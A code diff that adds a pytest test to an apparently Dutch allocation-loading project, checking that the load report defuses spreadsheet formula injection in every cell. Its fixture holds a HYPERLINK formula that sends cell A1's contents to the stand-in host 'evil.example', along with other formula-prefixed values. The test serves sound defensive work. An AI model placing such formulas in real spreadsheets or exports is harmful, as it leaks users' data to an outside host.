@@ -194,3 +194,18 @@ def test_a_fast_legacy_fingerprint_is_replaced_by_a_slow_one_on_the_next_load(tm
         assert fingerprint is not None and fingerprint.startswith("scrypt$")
         with pytest.raises(ConfigError, match="wijkt af"):
             load_allocations(warehouse, path, LoadOptions(pseudonym_key=STRONG_KEY[::-1]), now=NOW)
+
+
+def test_the_load_report_defuses_spreadsheet_formulas_in_every_cell(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1;"klik")'
+    path = write_csv(
+        tmp_path / "t.csv",
+        [allocation("T1", law="@SUM(1+1)", provider_name=formula), allocation("+T2", start="-2018-01-01")],
+    )
+    summary, _, _ = load_and_read(tmp_path, path)
+    with summary.report_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.reader(handle, delimiter=";"))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'" + formula in rows[1] and "'@SUM(1+1)" in rows[1]
